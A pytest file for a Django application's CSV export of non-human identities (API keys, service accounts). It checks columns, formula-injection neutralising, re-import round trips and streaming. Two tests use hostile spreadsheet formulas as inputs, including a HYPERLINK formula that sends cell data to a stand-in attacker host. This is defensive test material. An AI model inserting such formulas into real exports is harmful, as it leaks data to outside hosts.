"""CSV export: the import format's columns, safe in a spreadsheet, streamed, and re-importable
without changing anything."""

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from nhi import export
from nhi.importers.csv_format import COLUMNS
from nhi.models import NhiStatus, NonHumanIdentity
from soc2hub import permissions

pytestmark = pytest.mark.usefixtures("fast_hashing")


def identity(team, n, **fields) -> NonHumanIdentity:
    values = {"name": f"Key {n}", "kind": "access_key", "provider": "AWS", "external_id": f"key-{n}",
              "owner_team": team, "created_on": dt.date(2024, 1, 1), "last_rotated_on": dt.date(2025, 1, 1),
              "rotation_interval_days": 90, **fields}
    return NonHumanIdentity.objects.create(**values)


def exported(queryset) -> list[dict]:
    text = "".join(export.csv_rows(queryset))
    return list(csv.DictReader(io.StringIO(text)))


def test_columns_are_the_import_format(teams, personas):
    nhi = identity(teams["hr"], 1, technical_owner=personas["owner"], scopes="s3:GetObject\ns3:PutObject",
                   has_admin_access=True, owasp_tags=["NHI7:2025", "NHI1:2025"], expires_on=dt.date(2027, 1, 1),
                   credential_fingerprint="AKIA…7QXZ", status=NhiStatus.DISABLED)
    text = "".join(export.csv_rows(NonHumanIdentity.objects.all()))
    assert text.splitlines()[0] == ",".join(COLUMNS)
    [row] = exported(NonHumanIdentity.objects.all())
    assert row == {
        "external_id": "key-1", "source": "manual", "name": "Key 1", "kind": "access_key", "status": "disabled",
        "owner_team": "hr", "technical_owner": "harriet_hr", "provider": "AWS", "environment": "production",
        "purpose": "", "scopes": "s3:GetObject;s3:PutObject", "has_admin_access": "true",
        "has_production_access": "false", "vendor": "", "secret_location": "", "credential_fingerprint": "AKIA…7QXZ",
        "created_on": "2024-01-01", "last_used_on": "", "last_rotated_on": "2025-01-01",
        "rotation_interval_days": "90", "expires_on": "2027-01-01", "owasp_tags": "NHI7:2025;NHI1:2025",
    }
    assert nhi.pk  # the export reads, never writes


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
                                   "\tTAB", "\rCR"])
def test_formula_cells_are_neutralised(teams, value):
    identity(teams["hr"], 1, name=value, purpose=value, vendor=value)
    [row] = exported(NonHumanIdentity.objects.all())
    assert row["name"] == row["purpose"] == row["vendor"] == f"'{value}"


def test_ordinary_cells_are_left_alone(teams):
    identity(teams["hr"], 1, name="Deploy key (prod)", purpose="Rotates every 90 days; owner: payments")
    [row] = exported(NonHumanIdentity.objects.all())
    assert row["name"] == "Deploy key (prod)" and row["purpose"].startswith("Rotates")


def test_an_export_re_imports_as_all_unchanged(teams, personas, run_import):
    identity(teams["hr"], 1, name='=HYPERLINK("http://evil.example")', technical_owner=personas["owner"],
             scopes="a\nb", owasp_tags=["NHI7:2025"], purpose="Line one\nline two, with a comma")
    identity(teams["legal"], 2, source="aws-credential-report", external_id="arn:aws:iam::1:user/x#access_key_1",
             rotation_interval_days=None, kind="other", last_used_on=dt.date(2026, 11, 1))
    identity(None, 3, status=NhiStatus.REVOKED, vendor="-minus vendor")  # no owner team
    identity(teams["engineering"], 4, source="k8s-serviceaccounts", external_id="k8s:payments/default",
             kind="service_account", rotation_interval_days=None, secret_location="uid 1; token Secrets a/b")
    content = "".join(export.csv_rows(NonHumanIdentity.objects.all(), byte_order_mark=True)).encode()

    imp = run_import(content, name="export.csv")
    assert (imp.new_count, imp.updated_count, imp.unchanged_count, imp.error_count) == (0, 0, 4, 0), imp.preview
    assert NonHumanIdentity.objects.count() == 4


def test_a_filtered_list_exports_only_its_rows(teams, personas):
    identity(teams["hr"], 1)
    identity(teams["legal"], 2)
    mine = permissions.restrict(NonHumanIdentity.objects.all(), personas["owner"])  # Harriet is in HR
    assert [row["external_id"] for row in exported(mine)] == ["key-1"]
    assert exported(NonHumanIdentity.objects.filter(owner_team__slug="nobody")) == []


def test_streams_with_a_flat_number_of_queries(teams, personas):
    def queries(count: int) -> int:
        NonHumanIdentity.objects.all().delete()
        NonHumanIdentity.objects.bulk_create([
            NonHumanIdentity(name=f"k{n}", kind="access_key", provider="AWS", external_id=f"k{n}",
                             owner_team=teams["hr"], technical_owner=personas["owner"]) for n in range(count)])
        with CaptureQueriesContext(connection) as ctx:
            lines = sum(1 for _ in export.csv_rows(NonHumanIdentity.objects.all()))
        assert lines == count + 1
        return len(ctx.captured_queries)

    assert queries(10) == queries(2500)


def test_streaming_response_and_write_csv(teams):
    identity(teams["hr"], 1)
    identity(teams["hr"], 2)
    response = StreamingHttpResponse(export.csv_rows(NonHumanIdentity.objects.all()), content_type="text/csv")
    body = b"".join(response.streaming_content).decode()
    assert body.count("\r\n") == 3

    stream = io.StringIO(newline="")
    assert export.write_csv(NonHumanIdentity.objects.all(), stream) == 2
    assert stream.getvalue() == body
    rows = []

    class Collect:
        def writerow(self, row):
            rows.append(row)

    assert export.write_csv(NonHumanIdentity.objects.all(), Collect()) == 2
    assert rows[0] == list(COLUMNS) and len(rows) == 3


def test_safe_cell():
    assert export.safe_cell("=1+1") == "'=1+1"
    assert export.safe_cell("") == ""
    assert export.safe_cell("plain") == "plain"
